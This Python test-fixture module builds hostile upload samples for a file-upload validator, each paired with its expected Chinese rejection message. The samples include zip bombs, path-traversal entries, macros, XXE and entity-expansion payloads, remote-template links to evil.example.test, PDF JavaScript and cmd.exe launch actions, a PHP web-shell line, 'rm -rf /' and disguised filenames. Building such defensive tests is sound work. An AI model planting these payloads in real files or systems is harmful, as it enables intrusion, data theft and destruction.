"""有害文件: sixty that somebody might hand in, each with the sentence that it gets.

A file is its name, its bytes and how the sentence about it goes on after the name.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Final

from huiqi.kernel.sheets import Column, workbook

PDF: Final = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n"
PNG: Final = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
JPEG: Final = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\0" * 40
GIF: Final = b"GIF89a" + b"\0" * 40
OLE: Final = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 1016
SHEET: Final = workbook("表", [Column("一")], [["二"]])
DOCTYPE: Final = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "passwd">]><a>&x;</a>'
LAUGHS: Final = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;</a>'
TYPES: Final = '<Types><Override PartName="/{0}" ContentType="application/{1}"/></Types>'
AWAY: Final = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.example.test/{0}"'
    ' Target="http://evil.example.test/a" TargetMode="External"/></Relationships>'
)
BOOK, PAGE = "xl/workbook.xml", "word/document.xml"

KIND: Final = "不是可以上传的类型。"
EMPTY: Final = "是空的，请核对后重新上传"
SWELLS: Final = "解开后过大，可能有问题。请拆成几个文件再上传"
ELSEWHERE: Final = "里有指向别处的路径，不能接收"
MACRO: Final = "带有宏，不能接收。"
ENTITY: Final = "里有外部实体声明，不能接收。"
LOCKED: Final = "设了密码，别人打不开。"
FETCHES: Final = "一打开就会从别处取内容，不能接收。"
PROGRAM: Final = "里嵌着程序，不能接收。"
RUNS: Final = "里有会自己运行的程序，不能接收。"
HIDES: Final = "后面藏着一个压缩包，不能接收。"
BROKEN: Final = "已损坏，打不开。"
BELIES: Final = "的内容是"


@dataclass(frozen=True)
class Hostile:
    """一个有害文件: ``told`` begins what is said of it, after its name."""

    name: str
    content: bytes
    told: str


def packed(members: dict[str, bytes | str], *, flags: int = 0) -> bytes:
    """A zip of these; ``flags`` are set on every member, as a lock does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    content = out.getvalue()
    if flags:
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = content.find(mark)
            while at >= 0:
                content = content[: at + place] + bytes([flags]) + content[at + place + 1 :]
                at = content.find(mark, at + 4)
    return content


def liar(size: int = 2_000_000) -> bytes:
    """A part that says that it is small, and is not."""
    content = packed({BOOK: b"0" * size})
    true, small = struct.pack("<L", size), struct.pack("<L", 100)
    return content.replace(true, small)


def pdf(*more: bytes) -> bytes:
    return PDF.replace(b"trailer", b"\n".join(more) + b"\ntrailer")


def _bombs() -> list[Hostile]:
    return [
        Hostile("炸弹.xlsx", packed({BOOK: b"0" * 3_000_000}), SWELLS),
        Hostile("炸弹.docx", packed({PAGE: b"0" * 3_000_000}), SWELLS),
        Hostile("许多.xlsx", packed({BOOK: "", **{f"{n}.xml": "" for n in range(5001)}}), SWELLS),
        Hostile("套娃.xlsx", packed({BOOK: packed({"a": b"0" * 900_000}) * 900}), SWELLS),
        Hostile("说谎.xlsx", liar(), BROKEN),
        Hostile("炸弹.zip", packed({"a": b"0" * 3_000_000}), SWELLS),
        Hostile("炸弹.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(b"0" * 9_000_000), KIND),
    ]


def _paths() -> list[Hostile]:
    return [
        Hostile("上级.xlsx", packed({BOOK: "", "../../etc/cron": ""}), ELSEWHERE),
        Hostile("上级.docx", packed({PAGE: "", "word/../../a": ""}), ELSEWHERE),
        Hostile("根目录.xlsx", packed({BOOK: "", "/etc/passwd": ""}), ELSEWHERE),
        Hostile("反斜杠.xlsx", packed({BOOK: "", "..\\..\\a": ""}), ELSEWHERE),
    ]


def _macros() -> list[Hostile]:
    types = "[Content_Types].xml"
    return [
        Hostile("宏一.xlsx", packed({BOOK: "", "xl/vbaProject.bin": b"1"}), MACRO),
        Hostile("宏二.docx", packed({PAGE: "", "word/vbaProject.bin": b"1"}), MACRO),
        Hostile(
            "改名的宏.xlsx",
            packed(
                {
                    BOOK: "",
                    "xl/a.bin": "",
                    types: TYPES.format("xl/a.bin", "vnd.ms-office.vbaProject"),
                }
            ),
            MACRO,
        ),
        Hostile(
            "宏工作簿.xlsx",
            packed({BOOK: "", types: TYPES.format(BOOK, "vnd.ms-excel.sheet.macroEnabled.main")}),
            MACRO,
        ),
        Hostile("旧宏表.xlsx", packed({BOOK: "", "xl/macrosheets/sheet1.xml": "<a/>"}), PROGRAM),
        Hostile("控件.docx", packed({PAGE: "", "word/activeX/activeX1.xml": "<a/>"}), PROGRAM),
        Hostile("对象.docx", packed({PAGE: "", "word/embeddings/oleObject1.bin": OLE}), PROGRAM),
        Hostile("宏.xlsm", packed({BOOK: "", "xl/vbaProject.bin": b"1"}), MACRO),
    ]


def _entities() -> list[Hostile]:
    wide = b"\xff\xfe" + DOCTYPE.decode().encode("utf-16-le")
    return [
        Hostile("实体.xlsx", packed({BOOK: DOCTYPE}), ENTITY),
        Hostile("实体.docx", packed({PAGE: DOCTYPE}), ENTITY),
        Hostile("字符串.xlsx", packed({BOOK: "", "xl/sharedStrings.xml": LAUGHS}), ENTITY),
        Hostile("关系.docx", packed({PAGE: "", "word/_rels/document.xml.rels": DOCTYPE}), ENTITY),
        Hostile("双字节.xlsx", packed({BOOK: "", "xl/styles.xml": wide}), ENTITY),
        Hostile("批注.xlsx", packed({BOOK: "", "xl/drawings/vml1.vml": LAUGHS}), ENTITY),
        Hostile("属性.docx", packed({PAGE: "", "docProps/core.xml": DOCTYPE}), ENTITY),
    ]


def _fetching() -> list[Hostile]:
    places = {
        "模板": "attachedTemplate",
        "链接对象": "oleObject",
        "框架": "frame",
        "子文档": "subDocument",
    }
    found = [
        Hostile(f"{name}.docx", packed({PAGE: "", "word/_rels/a.rels": AWAY.format(kind)}), FETCHES)
        for name, kind in places.items()
    ]
    link = packed({BOOK: "", "xl/externalLinks/_rels/a.rels": AWAY.format("externalLinkPath")})
    return [*found, Hostile("外部表.xlsx", link, FETCHES)]


def _locked() -> list[Hostile]:
    return [
        Hostile(
            "加密.pdf", pdf(b"9 0 obj<</Filter/Standard>>endobj", b"<</Encrypt 9 0 R>>"), LOCKED
        ),
        Hostile("加密一.pdf", pdf(b"<</Encrypt <</Filter/Standard/V 5>>>>"), LOCKED),
        Hostile("加密.xlsx", packed({BOOK: "<a/>"}, flags=1), LOCKED),
        Hostile("加密.docx", packed({PAGE: "<a/>"}, flags=1), LOCKED),
        Hostile("口令.xlsx", OLE, KIND),
        Hostile("旧版.xls", OLE, KIND),
    ]


def _running() -> list[Hostile]:
    return [
        Hostile("脚本.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), RUNS),
        Hostile("启动.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), RUNS),
        Hostile("富媒体.pdf", pdf(b"<</Subtype/RichMedia>>"), RUNS),
        Hostile("网页.csv", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
        Hostile("网页.txt", b"\xef\xbb\xbf \n<html><body onload=alert(1)>", KIND),
        Hostile("矢量.csv", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KIND),
        Hostile("页面.txt", b"<?php system($_GET[0]); ?>", KIND),
        Hostile("脚本.csv", b"#!/bin/sh\nrm -rf /\n", KIND),
        Hostile("富文本.txt", rb"{\rtf1 {\object\objocx}}", KIND),
        Hostile("信.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n", KIND),
        Hostile("打印.txt", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", KIND),
    ]


def _polyglots() -> list[Hostile]:
    behind = packed({"META-INF/MANIFEST.MF": "Main-Class: A"})
    return [
        Hostile("夹带.pdf", PDF + behind, HIDES),
        Hostile("夹带.png", PNG + behind, HIDES),
        Hostile("夹带.jpg", JPEG + behind, HIDES),
        Hostile("前缀.xlsx", b"MZ" + b"\0" * 62 + SHEET, KIND),
        Hostile("图片.gif", GIF, KIND),
        Hostile("图片.pdf", GIF, KIND),
    ]


def _wrong_kinds() -> list[Hostile]:
    return [
        Hostile("空.pdf", b"", EMPTY),
        Hostile("空.xlsx", b"", EMPTY),
        Hostile("程序.pdf", b"MZ\x90\0" + b"\0" * 90, KIND),
        Hostile("程序.exe", b"MZ\x90\0" + b"\0" * 90, KIND),
        Hostile("程序.csv", b"\x7fELF\2\1\1" + b"\0" * 60, KIND),
        Hostile("发票.pdf.exe", PDF, BELIES),
        Hostile("发票.xlsx.js", SHEET, BELIES),
        Hostile("合同.docx", SHEET, BELIES),
        Hostile("图.pdf", PNG, BELIES),
        Hostile("没有扩展名", PDF, BELIES),
        Hostile(".pdf", PDF, BELIES),
        Hostile("翻转\u202efdp.exe", PDF, BELIES),
        Hostile("截断.xlsx", SHEET[:-40], KIND),
        Hostile("压缩.zip", packed({"a.txt": "a"}), KIND),
        Hostile("归档.rar", b"Rar!\x1a\x07\x00" + b"\0" * 40, KIND),
        Hostile("磁盘.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, KIND),
        Hostile("二进制.csv", bytes(range(256)) * 40, KIND),
        Hostile("空字节.txt", b"a,b\0c\n" * 100, KIND),
    ]


HOSTILE: Final = (
    *_bombs(),
    *_paths(),
    *_macros(),
    *_entities(),
    *_fetching(),
    *_locked(),
    *_running(),
    *_polyglots(),
    *_wrong_kinds(),
)
# What may come in once its name is one: the name given, the name that is kept.
NAMES: Final = (
    ("../../../etc/凭证.pdf", "凭证.pdf"),
    ("..\\..\\凭证.pdf", "凭证.pdf"),
    ("/etc/凭证.pdf", "凭证.pdf"),
    ("C:\\凭证.pdf", "凭证.pdf"),
    ("凭证\u202e.pdf", "凭证.pdf"),
    ("长" * 300 + ".pdf", "长" * 196 + ".pdf"),
    ("凭证.exe.pdf", "凭证.exe.pdf"),
)
